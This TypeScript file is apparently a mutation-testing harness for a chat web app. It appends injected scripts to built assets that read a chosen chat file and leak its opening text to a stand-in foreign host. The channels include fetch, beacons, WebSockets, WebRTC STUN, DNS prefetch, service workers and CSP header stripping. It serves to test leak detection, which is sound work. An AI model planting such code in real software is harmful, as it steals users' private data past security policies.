import type { Alter, Passing } from './recorder.ts'
import { foreignHost } from './watched.ts'

/** Where a mutant could send what it saw, and what it saw. */
interface Ways {
  /** An address of someone else's server, the loot in its query. */
  foreign: string
  /** The same on our own server. */
  own: string
  /** A name that someone else's name server would be asked for. */
  name: string
  /** The beginning of the chat. */
  loot: string
  stun: string
}

type Leak = (ways: Ways) => void

/** A way to lose a chat, as a mistake or a bad dependency could bring it into the built product. */
export interface Mutant {
  name: string
  /** Is in every address it uses, so that what is caught is the leak and no accident. */
  mark: string
  /** Beside it another would not come to what it does, or be stopped by nothing. */
  isAlone: boolean
  alter(stunPort: number): Alter
}

/** Lets planted code see the chat at the moment the person chooses it. */
const inPage = (leak: Leak) => (mark: string, stunPort: number) =>
  planted(/^\/assets\/app-[\w-]+\.js$/, `(${whenChosen})(${JSON.stringify(scheme(mark, stunPort))}, ${leak})`)

/** Lets planted code see the chat at the moment the engine is given it. */
const inEngine = (leak: Leak) => (mark: string, stunPort: number) =>
  planted(engineScript, `(${whenGiven})(${JSON.stringify(scheme(mark, stunPort))}, ${leak})`)

const engineScript = /^\/assets\/worker-[\w-]+\.js$/

interface Scheme {
  mark: string
  host: string
  stun: string
}
const scheme = (mark: string, stunPort: number): Scheme => ({ mark, host: foreignHost, stun: `stun:127.0.0.1:${stunPort}` })

function whenChosen({ mark, host, stun }: Scheme, leak: Leak): void {
  const send = async (file: File) => {
    const loot = (await file.text()).slice(0, 80)
    const query = `${mark}?${encodeURIComponent(loot)}`
    leak({ foreign: `http://${host}/${query}`, own: `/${query}`, name: `${mark}.${host}`, loot, stun })
  }
  addEventListener(
    'change',
    ({ target }) => {
      const [file] = target instanceof HTMLInputElement ? (target.files ?? []) : []
      if (file) void send(file)
    },
    true,
  )
}

function whenGiven({ mark, host, stun }: Scheme, leak: Leak): void {
  const fileIn = (value: unknown, depth: number): Blob | null => {
    if (value instanceof Blob) return value
    if (depth === 0 || typeof value !== 'object' || value === null) return null
    return Object.values(value).reduce<Blob | null>((found, each) => found ?? fileIn(each, depth - 1), null)
  }
  addEventListener('message', async ({ data }) => {
    const file = fileIn(data, 4)
    if (!file) return
    const loot = (await file.text()).slice(0, 80)
    const query = `${mark}?${encodeURIComponent(loot)}`
    leak({ foreign: `http://${host}/${query}`, own: `${location.origin}/${query}`, name: `${mark}.${host}`, loot, stun })
  })
}

/** Adds code to the end of a script. */
const planted =
  (script: RegExp, code: string): Alter =>
  (path, answer) =>
    script.test(path) ? { ...answer, body: `${answer.body}\n;${code};` } : null

/** One change after the other. */
const both =
  (first: Alter, second: Alter): Alter =>
  (path, answer) => {
    const changed = first(path, answer)
    return second(path, changed ?? answer) ?? changed
  }

const withoutPolicy = ({ headers, ...answer }: Passing): Passing => ({
  ...answer,
  headers: { ...headers, 'content-security-policy': undefined, 'connection-allowlist': undefined },
})

/** A worker script that is sent without its headers obeys nobody. */
const engineWithoutPolicy: Alter = (path, answer) => (engineScript.test(path) ? withoutPolicy(answer) : null)

/** importScripts is there in workers of the old kind only. */
const engineOfTheOldKind: Alter = (path, answer) => {
  if (!path.endsWith('.js')) return null
  return { ...answer, body: answer.body.replace(/\{type:[`"']module[`"'],name:/, '{name:').replaceAll('import.meta.url', 'location.href') }
}

/** A service worker that takes what the page sends it and forwards it. */
const forwarder = (mark: string): Alter => {
  const code = `addEventListener('message', ({ data }) => fetch('http://${foreignHost}/${mark}?' + encodeURIComponent(data), { mode: 'no-cors' }))`
  return (path) => (path === `/${mark}.js` ? { status: 200, headers: { 'content-type': 'text/javascript' }, body: code } : null)
}

const serviceWorkerScript = /^\/service-worker\.js$/

/** The same in the service worker that there is. */
const ownForwarder = (mark: string, stunPort: number): Alter => {
  const code = `addEventListener('message', ({ data }) => data.mark === '${mark}' && fetch('http://${foreignHost}/${mark}?' + encodeURIComponent(data.loot), { mode: 'no-cors' }))`
  return both(
    planted(serviceWorkerScript, code),
    inPage(async ({ own, loot }) => {
      const { active } = await navigator.serviceWorker.ready
      active?.postMessage({ mark: own.slice(1).split('?')[0], loot })
    })(mark, stunPort),
  )
}

const serviceWorkerWithoutPolicy: Alter = (path, answer) => (serviceWorkerScript.test(path) ? withoutPolicy(answer) : null)

const plants: Record<string, (mark: string, stunPort: number) => Alter> = {
  // Eleven ways to send a request to another host.
  fetch: inPage(({ foreign }) => void fetch(foreign, { mode: 'no-cors' })),
  xhr: inPage(({ foreign, loot }) => {
    const request = new XMLHttpRequest()
    request.open('POST', foreign)
    request.send(loot)
  }),
  beacon: inPage(({ foreign, loot }) => void navigator.sendBeacon(foreign, loot)),
  'event source': inPage(({ foreign }) => void new EventSource(foreign)),
  socket: inPage(({ foreign }) => void new WebSocket(foreign.replace('http', 'ws'))),
  picture: inPage(({ foreign }) => {
    new Image().src = foreign
  }),
  style: inPage(({ foreign }) => {
    document.body.style.backgroundImage = `url("${foreign}")`
  }),
  prefetch: inPage(({ foreign }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: foreign }))
  }),
  frame: inPage(({ foreign }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: foreign }))
  }),
  form: inPage(({ foreign, loot }) => {
    const form = Object.assign(document.createElement('form'), { action: foreign, method: 'post', target: '_blank' })
    form.append(Object.assign(document.createElement('input'), { name: 'text', value: loot }))
    document.body.append(form)
    form.submit()
  }),
  ping: inPage(({ foreign }) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: foreign })
    document.body.append(link)
    link.click()
  }),
  // What no content policy closes.
  navigation: inPage(({ foreign }) => location.assign(foreign)),
  window: inPage(({ foreign }) => void window.open(foreign, '_blank', 'noopener')),
  webrtc: inPage(({ stun, own }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: stun, username: own, credential: own }] })
    connection.createDataChannel('text')
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer))
  }),
  'name lookup': inPage(({ name }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${name}` }))
  }),
  'engine without headers': (mark, stunPort) =>
    both(engineWithoutPolicy, inEngine(({ foreign }) => void fetch(foreign, { mode: 'no-cors' }))(mark, stunPort)),
  'service worker': (mark, stunPort) =>
    both(
      forwarder(mark),
      inPage(async ({ own, loot }) => {
        await navigator.serviceWorker.register(`${own.split('?')[0]}.js`)
        const { active } = await navigator.serviceWorker.ready
        active?.postMessage(loot)
      })(mark, stunPort),
    ),
  'our own service worker': ownForwarder,
  'our own service worker without headers': (mark, stunPort) => both(serviceWorkerWithoutPolicy, ownForwarder(mark, stunPort)),
  'error report': inPage(({ own, loot }) => {
    addEventListener('error', ({ message }) => void fetch(own.split('?')[0], { method: 'POST', body: message }))
    setTimeout(() => {
      throw new Error(`Cannot read: ${loot}`)
    })
  }),
  // To our own server, which is not to know either.
  'own picture': inPage(({ own }) => {
    new Image().src = own
  }),
  'own navigation': inPage(({ own }) => location.assign(own)),
  // No word of the chat, only its length, on the one path that may be fetched.
  'own allowed path': inPage(({ own, loot }) => void fetch(`/demo-chat.txt?${own.slice(1).split('?')[0]}=${loot.length}`)),
  'own import': inEngine(({ own }) => void import(own).catch(() => undefined)),
  'own importScripts': (mark, stunPort) =>
    both(
      engineOfTheOldKind,
      inEngine(({ own }) => {
        const scope = Object(globalThis) as { importScripts(url: string): void }
        scope.importScripts(own)
      })(mark, stunPort),
    ),
  'own nested worker': inEngine(({ own }) => void new Worker(own)),
}

/** They take the page away, or the policy that stops the others; or, among many, are at times not reported by the browser. */
const alone = new Set([
  'navigation',
  'own navigation',
  'service worker',
  'our own service worker without headers',
  'engine without headers',
  'own importScripts',
  'own nested worker',
])

export const mutants: readonly Mutant[] = Object.entries(plants).map(([name, plant]) => {
  const mark = `zoo-${name.replaceAll(' ', '-')}`.toLowerCase()
  return { name, mark, isAlone: alone.has(name), alter: (stunPort) => plant(mark, stunPort) }
})

/** Plants them all in one product. */
export const plantedTogether = (together: readonly Mutant[], stunPort: number): Alter =>
  together.map(({ alter }) => alter(stunPort)).reduce(both)
